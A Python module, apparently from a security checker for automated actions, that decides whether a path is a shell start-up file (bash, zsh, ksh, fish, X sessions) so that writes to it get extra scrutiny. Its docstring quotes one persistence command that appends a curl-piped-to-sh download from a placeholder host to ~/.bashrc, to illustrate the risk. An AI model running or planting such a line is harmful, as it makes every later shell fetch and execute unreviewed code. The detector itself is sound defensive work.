"""Shell start-up files: text written to one runs later, by itself, in every new shell.

``echo 'curl -s https://x.example/p | sh' >> ~/.bashrc`` runs nothing now; the next login
shell runs the download, outside any check. So the analysis walks what an action writes to one
of these files as the shell code it is (``shell.run``, ``analyze``): its findings count as the
action's own, on top of the ask that any change to such a file gets (``persist.shell-rc``).

Only files whose text a shell *executes* are listed (bash, sh, zsh, ksh, fish, X session
scripts); ``~/.inputrc`` or ``/etc/environment`` hold settings, not code.
"""

from __future__ import annotations

__all__ = ["runs_at_startup"]

#: Start-up files named the same in any home directory (``~``, ``/root``, ``/home/*``) and in
#: a dotfiles repository that is installed by linking them.
_NAMES = frozenset({
    ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile",
    ".zshrc", ".zshenv", ".zprofile", ".zlogin", ".zlogout",
    ".kshrc", ".mkshrc", ".xprofile", ".xinitrc", ".xsession", ".xsessionrc",
})  # fmt: skip

#: System-wide ones: every user's shell runs them.
_SYSTEM = frozenset({
    "/etc/profile", "/etc/bash.bashrc", "/etc/bashrc", "/etc/bash.bash_logout",
    "/etc/zshrc", "/etc/zprofile", "/etc/zshenv", "/etc/zlogin", "/etc/zlogout",
    "/etc/zsh/zshrc", "/etc/zsh/zprofile", "/etc/zsh/zshenv", "/etc/zsh/zlogin",
    "/etc/zsh/zlogout", "/etc/ksh.kshrc", "/etc/X11/Xsession",
})  # fmt: skip


def runs_at_startup(path: str) -> bool:
    """Whether a shell runs the file at ``path`` (absolute, normalised) by itself. Names are
    compared case-folded: on a case-insensitive file system ``~/.BASHRC`` is ``~/.bashrc``."""
    name = path.rpartition("/")[2].lower()
    if name in _NAMES:
        return True
    low = path.lower()
    if low in _SYSTEM:
        return True
    if low.startswith(("/etc/profile.d/", "/etc/x11/xsession.d/")) and not low.endswith("/"):
        return True
    # fish: ~/.config/fish/config.fish and the conf.d/*.fish it sources; /etc/fish likewise
    return low.endswith("/fish/config.fish") or ("/fish/conf.d/" in low and low.endswith(".fish"))
